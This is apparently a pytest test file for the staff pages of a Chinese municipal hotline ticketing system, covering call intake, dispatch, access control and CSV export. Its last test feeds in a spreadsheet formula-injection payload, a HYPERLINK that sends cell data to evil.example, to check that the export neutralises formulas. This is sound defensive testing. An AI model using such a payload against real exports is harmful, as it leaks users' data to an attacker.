"""The staff pages: the call, the ticket, the queues; outsiders get 403/404 and change nothing."""

import csv
import io

import pytest

from yiwang.hotline.models import Ticket
from yiwang.hotline.tests.conftest import department, make_ticket


def test_operator_records_a_call_and_sees_the_suggestions(client, login_as, operator, calendar, categories):
    login_as(operator)
    page = client.get("/staff/hotline/call/")
    key = page.context["form"]["idempotency_key"].value()
    data = {
        "idempotency_key": key,
        "caller_phone": "13900000009",
        "caller_name": "孙丽",
        "kind": "complaint",
        "urgency": "normal",
        "title": "餐馆卖过期食品",
        "text": "解放碑一家餐馆使用过期食材，商家拒绝退款。",
        "address": "解放碑街道民族路88号",
    }

    response = client.post("/staff/hotline/call/", data)
    again = client.post("/staff/hotline/call/", data)  # a double submit creates once

    ticket = Ticket.objects.get()
    assert response.status_code == again.status_code == 302
    assert response["Location"] == f"/staff/hotline/tickets/{ticket.code}/"
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert page.context["suggestions"][0]["name"] == "商贸旅游"
    assert page.context["dispatch_form"].initial["department"] == department("04")
    assert "139****0009" in page.content.decode()


def test_bad_call_shows_errors_and_creates_nothing(client, login_as, operator, calendar, categories):
    login_as(operator)
    key = client.get("/staff/hotline/call/").context["form"]["idempotency_key"].value()

    response = client.post(
        "/staff/hotline/call/",
        {
            "idempotency_key": key,
            "kind": "complaint",
            "urgency": "normal",
            "title": "x",
            "text": "y",
            "caller_phone": "999",
        },
    )

    assert response.status_code == 200 and response.context["form"].errors["caller_phone"]
    assert not Ticket.objects.exists()


def test_caller_history_finds_earlier_tickets_by_number(client, login_as, ticket, operator):
    login_as(operator)

    response = client.get("/staff/hotline/call/history/", {"caller_phone": "139 0000 0009"})

    assert list(response.context["tickets"]) == [ticket]


def test_dispatch_take_up_answer_and_visit_through_the_pages(
    client, login_as, ticket, dispatcher, officer, operator, categories
):
    login_as(dispatcher)
    client.post(
        f"/staff/hotline/tickets/{ticket.code}/dispatch/",
        {"category": categories["商贸旅游"].pk, "department": department("04").pk},
    )
    login_as(officer)
    client.post(f"/staff/hotline/tickets/{ticket.code}/take-up/")
    client.post(f"/staff/hotline/tickets/{ticket.code}/answer/", {"answer": "已责令整改。"})
    login_as(operator)
    client.post(
        f"/staff/hotline/tickets/{ticket.code}/visit/", {"satisfaction": "satisfied", "resolved": "yes"}
    )

    ticket.refresh_from_db()
    assert ticket.status == Ticket.CLOSED and ticket.answer == "已责令整改。"


def test_refused_action_shows_the_reason_and_changes_nothing(client, login_as, dispatched, officer):
    login_as(officer)

    response = client.post(f"/staff/hotline/tickets/{dispatched.code}/return/", {"reason": ""}, follow=True)

    assert [str(m) for m in response.context["messages"]]
    dispatched.refresh_from_db()
    assert dispatched.status == Ticket.DISPATCHED


def test_officer_of_another_department_gets_404_and_changes_nothing(
    client, login_as, dispatched, other_officer
):
    login_as(other_officer)

    assert client.get(f"/staff/hotline/tickets/{dispatched.code}/").status_code == 404
    assert (
        client.post(f"/staff/hotline/tickets/{dispatched.code}/answer/", {"answer": "x"}).status_code == 404
    )
    dispatched.refresh_from_db()
    assert dispatched.status == Ticket.DISPATCHED
    assert client.get("/staff/hotline/worklist/").context["tickets"].__len__() == 0


@pytest.mark.parametrize("persona", ["li_wei", "clerk"])
def test_citizens_and_other_staff_cannot_open_the_console(client, login_as, request, ticket, persona):
    login_as(request.getfixturevalue(persona))

    for url in (
        "/staff/hotline/",
        "/staff/hotline/call/",
        "/staff/hotline/supervision/",
        "/staff/hotline/hot/",
        "/staff/hotline/export.csv",
    ):
        assert client.get(url).status_code == 403, url
    assert client.get(f"/staff/hotline/tickets/{ticket.code}/").status_code == 403


def test_department_staff_cannot_dispatch_or_urge(client, login_as, dispatched, officer, categories):
    login_as(officer)

    assert client.post(f"/staff/hotline/tickets/{dispatched.code}/urge/", {"note": "x"}).status_code == 403
    assert (
        client.post(
            f"/staff/hotline/tickets/{dispatched.code}/visit/",
            {"satisfaction": "satisfied", "resolved": "yes"},
        ).status_code
        == 403
    )


def test_unknown_action_and_bad_code_are_404(client, login_as, ticket, operator):
    login_as(operator)

    assert client.post(f"/staff/hotline/tickets/{ticket.code}/delete/").status_code == 404
    assert client.get("/staff/hotline/tickets/not-a-uuid/").status_code == 404


def test_lists_use_a_bounded_number_of_queries(
    client, login_as, operator, supervisor, officer, calendar, categories, django_assert_max_num_queries
):
    from yiwang.hotline.actions import do_dispatch_ticket

    for index in range(12):
        t = make_ticket(operator, title=f"工单{index}")
        if index % 2:
            do_dispatch_ticket(
                t, category=categories["商贸旅游"], department=department("04"), actor=operator
            )
    for user, url in (
        (operator, "/staff/hotline/?tab=open"),
        (officer, "/staff/hotline/worklist/"),
        (supervisor, "/staff/hotline/supervision/"),
        (operator, "/staff/hotline/hot/"),
    ):
        login_as(user)
        with django_assert_max_num_queries(14):
            assert client.get(url).status_code == 200


def test_supervisor_urges_and_approves_extensions(client, login_as, dispatched, officer, supervisor):
    from yiwang.hotline.actions import do_request_extension

    do_request_extension(dispatched, days=3, reason="等待检测结果", actor=officer)
    login_as(supervisor)
    assert dispatched in client.get("/staff/hotline/supervision/").context["extensions"]

    client.post(f"/staff/hotline/tickets/{dispatched.code}/decide-extension/", {"approve": "yes"})
    client.post(f"/staff/hotline/tickets/{dispatched.code}/urge/", {"note": "请加快"})

    dispatched.refresh_from_db()
    assert dispatched.extension_state == Ticket.EXTENSION_APPROVED and dispatched.urge_count == 1


def test_export_writes_a_formula_typed_by_a_caller_as_text(client, login_as, operator, calendar, categories):
    title = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    ticket = make_ticket(operator, title=title, address="@SUM(1+1)")
    login_as(operator)

    export = client.get("/staff/hotline/export.csv")

    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == ticket.number)
    assert row[3] == "'" + title and row[4] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
